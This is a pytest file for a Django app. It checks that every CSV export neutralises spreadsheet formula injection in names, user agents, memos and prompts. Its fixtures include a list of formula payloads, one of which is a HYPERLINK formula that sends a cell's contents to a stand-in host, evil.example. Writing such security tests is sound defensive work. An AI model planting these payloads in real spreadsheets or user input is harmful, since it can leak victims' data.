"""Every CSV the product writes keeps a hostile name, user agent, memo or prompt from running as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone

from accessprogram.csv_files import FORMULA_TRIGGERS, csv_text, neutralise
from accessprogram.models import User
from accessprogram.services.context import Actor
from accessprogram.services.nda import nda_accept
from contributions.models import Report
from contributions.services.ledger import ledger_post
from generation.models import GenerationJob
from showcase.services.licences import licence_accept
from tests.conftest import client_for
from tests.showcase.test_licences import request_licence

HOSTILE_NAME = "=1+1"
HOSTILE_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
HOSTILE = [HOSTILE_NAME, HOSTILE_AGENT, "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(text):
    assert neutralise(text) == "'" + text
    assert list(csv.reader(io.StringIO(csv_text(["h"], [[text]]))))[1] == ["'" + text]


def test_numbers_and_plain_text_are_written_as_they_are():
    assert csv_text(["n", "text"], [[-5, "a = b"]]) == "n,text\r\n-5,a = b\r\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_formula_safe(name: str, text: str, expected: list[str]):
    cells = _cells(text)
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert dangerous == [], f"{name}: {dangerous}"
    for value in expected:
        assert "'" + value in cells, f"{name} lacks the neutralised {value!r}"


def test_every_export_neutralises_hostile_text(
    admin_user, unsigned_tester, approved, artist, reviewer, demo_generation_model, nda
):
    # A tester named like a formula signs the NDA from a user agent that is one.
    User.objects.filter(pk=unsigned_tester.pk).update(full_name=HOSTILE_NAME)
    nda_accept(
        actor=Actor(user=unsigned_tester, ip="198.51.100.7", user_agent=HOSTILE_AGENT),
        user=User.objects.get(pk=unsigned_tester.pk),
        nda=nda,
        typed_name=HOSTILE_NAME,
        shown_sha256=nda.text_sha256,
        clause_answers={"confidentiality": True},
    )
    # The artist's name, prompt, memo, licence use and credit line are hostile too (services strip spaces).
    User.objects.filter(pk=artist.pk).update(full_name="@cmd")
    GenerationJob.objects.filter(pk=approved.job_id).update(prompt="+SUM(1,2)")
    report = Report.objects.create(reporter=artist, type="bug", severity="high", title="t", text="t")
    ledger_post(
        tester=artist,
        kind="licence",
        source=report,
        actor=Actor.system(),
        amount_minor=5,
        currency="EUR",
        memo="-2+3",
    )
    licence = request_licence(admin_user, approved, use="=1")
    licence_accept(actor=Actor(user=artist), licence=licence, credit_line="@A1")
    as_admin = client_for(admin_user)

    evidence = as_admin.get(reverse("accessprogram:nda_admin_evidence", args=[nda.pk]))
    month = timezone.localdate().strftime("%Y-%m")
    statement = as_admin.get(reverse("contributions:staff_ledger_statement"), {"month": month})
    archive_response = client_for(artist).get(reverse("showcase:exit_archive"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(archive_response.streaming_content)))

    _assert_formula_safe("NDA evidence", b"".join(evidence.streaming_content).decode(), [HOSTILE_NAME, HOSTILE_AGENT])
    _assert_formula_safe("ledger statement", statement.content.decode(), ["@cmd", "-2+3"])
    archived = {name for name in archive.namelist() if name.endswith(".csv")}
    assert archived == {"works/index.csv", "showcase.csv", "licences.csv", "statement.csv"}
    expected = {"works/index.csv": ["+SUM(1,2)"], "licences.csv": ["=1", "@A1"], "statement.csv": ["-2+3"]}
    for name in archived:
        _assert_formula_safe(name, archive.read(name).decode(), expected.get(name, []))
